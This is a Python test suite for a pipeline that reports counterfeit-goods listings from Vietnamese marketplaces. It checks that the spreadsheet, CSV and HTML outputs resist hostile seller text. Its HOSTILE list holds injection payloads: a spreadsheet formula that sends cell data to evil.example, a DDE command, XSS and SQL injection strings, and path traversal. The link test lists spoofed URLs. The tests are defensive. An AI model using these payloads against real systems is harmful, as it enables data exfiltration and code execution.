"""What people open holds whatever sellers wrote, and says no more than the signs do."""

from __future__ import annotations

import csv
import html.parser
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from pipeline.stages.run import RunReport

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Giày Nike rep 1:1")',
    "+cmd|' /C calc'!A0 Giày Nike rep 1:1",
    "@SUM(1+1)*cmd Giày Adidas rep 1:1",
    "-2+3+cmd Túi Gucci super fake",
    "<script>alert(1)</script> Giày Nike rep 1:1",
    '"><img src=x onerror=alert(1)> Túi Dior super fake',
    "{{ 7*7 }} {% raw %} Giày Nike rep 1:1",
    "\u202egnp.exe Giày Nike rep 1:1",
    "'; DROP TABLE listings; -- Giày Nike rep 1:1",
    "../../../etc/passwd Giày Nike rep 1:1",
    "Giày Nike rep 1:1 " + "dài " * 9000,
    "Giày Nike\x07\x1b[31m rep 1:1 \ud83d",
]
DISCLAIMERS = ("không phải xác suất vi phạm", "Không phải kết luận vi phạm")


@pytest.fixture
def hostile(crawl: Callable[..., Path], finished: Callable[..., RunReport]) -> RunReport:
    rows = [
        {
            "tiêu đề": text.encode("utf-8", "replace").decode(),
            "mô tả": text.encode("utf-8", "replace").decode(),
            "tên gian hàng": text[:200].encode("utf-8", "replace").decode(),
            "mã gian hàng": f"S{number}",
            "giá bán": "100.000",
            "nơi gửi": text[:60].encode("utf-8", "replace").decode(),
        }
        for number, text in enumerate(HOSTILE)
    ]
    return finished(crawl(rows))


def cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_no_cell_of_the_workbook_is_a_formula(hostile: RunReport) -> None:
    with zipfile.ZipFile(hostile.out / "plan.xlsx") as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 3 and not any("<f>" in text or "<f " in text for text in sheets)
    assert len(hostile.plan.targets) == len(HOSTILE)


def test_no_csv_cell_starts_like_a_formula_and_every_target_has_one_line(hostile: RunReport) -> None:
    with (hostile.out / "targets.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert len(rows) == len(HOSTILE) + 1
    numbers = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r|%" and cell and not numbers.fullmatch(cell)]


class _Page(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts = 0
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def test_the_page_runs_only_its_own_script_and_asks_the_network_for_nothing(hostile: RunReport) -> None:
    text = (hostile.out / "index.html").read_text(encoding="utf-8")
    page = _Page()
    page.feed(text)
    assert page.scripts == 1 and "<img" not in text and "{{" not in text.replace("{{ 7*7 }}", "")
    assert not [name for _, name, _ in page.attributes if name.startswith("on")]
    assert not [value for _, name, value in page.attributes if name in {"src", "srcset", "action"} and value]
    assert "default-src 'none'" in text and "sha256-" in text


def test_control_and_direction_characters_reach_no_output(hostile: RunReport) -> None:
    unseen = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e\u2066-\u2069]")
    assert not unseen.search((hostile.out / "index.html").read_text(encoding="utf-8"))
    assert not any(unseen.search(cell) for cell in cells(hostile.out / "plan.xlsx"))
    assert not unseen.search((hostile.out / "targets.csv").read_text(encoding="utf-8-sig"))


def test_the_words_are_signs_and_never_violations(demo: RunReport) -> None:
    texts = [*cells(demo.out / "plan.xlsx"), (demo.out / "index.html").read_text(encoding="utf-8")]
    with zipfile.ZipFile(demo.out / "plan.xlsx") as archive:
        texts += [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    for text in texts:
        for disclaimer in DISCLAIMERS:
            text = text.replace(disclaimer, "")
        assert "vi phạm" not in text.lower(), text[:200]
    assert any("Dấu hiệu" in text for text in texts) and any(DISCLAIMERS[0] in text for text in texts)


def test_no_percentage_is_attached_to_a_target(demo: RunReport) -> None:
    sheet = openpyxl.load_workbook(demo.out / "plan.xlsx")["Danh sách"]
    levels = {row[9].value for row in sheet.iter_rows(min_row=6) if row[0].value}
    assert levels <= {"Mức ưu tiên", "Ưu tiên 1", "Ưu tiên 2", "Chưa đủ căn cứ nhận định"} and len(levels) > 1


def test_reasons_quote_the_sellers_own_words(demo: RunReport) -> None:
    listings = demo.plan.listings
    quoted = 0
    for row in listings.itertuples():
        for mark in row.highlights:
            if mark["field"] == "title":
                words = row.title[mark["start"] : mark["end"]]
                assert any(f"“{words}”" in reason for reason in row.reasons), (words, row.reasons)
                quoted += 1
    assert quoted > 5


def test_the_list_prints_on_a4_landscape_with_its_header_on_every_page(demo: RunReport) -> None:
    sheet = openpyxl.load_workbook(demo.out / "plan.xlsx")["Danh sách"]
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9
    assert sheet.print_title_rows and sheet.freeze_panes and sheet.auto_filter.ref
    assert [s.title for s in sheet.parent] == ["Danh sách", "Tin đăng", "Hướng dẫn"]


def test_links_go_only_to_known_sites() -> None:
    from pipeline.reports.safe_text import dead_link, live_link

    assert live_link("https://shopee.vn/shop/12") and live_link("https://www.lazada.vn/x")
    for address in (
        "http://shopee.vn/x", "https://shopee.vn.evil.example/x", "https://user@shopee.vn/x", "javascript:alert(1)",
        "https://evil.example/shopee.vn", "https://shopee.vn:8443/x", 'https://shopee.vn/"x', None, 5,
    ):  # fmt: skip
        assert live_link(address) is None, address
    assert dead_link("HTTPS://evil.example") == "hxxpS://evil.example"


@pytest.mark.libreoffice
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_workbook_and_prints_all_of_it(hostile: RunReport, tmp_path: Path) -> None:
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    subprocess.run(
        ["soffice", profile, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(hostile.out / "plan.xlsx")],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    assert (tmp_path / "plan.pdf").read_bytes().startswith(b"%PDF") and (tmp_path / "plan.pdf").stat().st_size > 20_000


@pytest.mark.chromium
@pytest.mark.skipif(shutil.which("chromium") is None, reason="Chromium is not installed")
def test_chromium_shows_every_target_and_no_seller_script_runs(hostile: RunReport, tmp_path: Path) -> None:
    done = subprocess.run(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}/profile", "--dump-dom",
         (hostile.out / "index.html").as_uri()],
        check=True, capture_output=True, text=True, encoding="utf-8", timeout=120,
    )  # fmt: skip
    assert done.stdout.count('class="target') >= len(HOSTILE) and "alert(1)" not in re.sub(r"&lt;.*?&gt;.*", "", done.stdout).split("<script")[0]
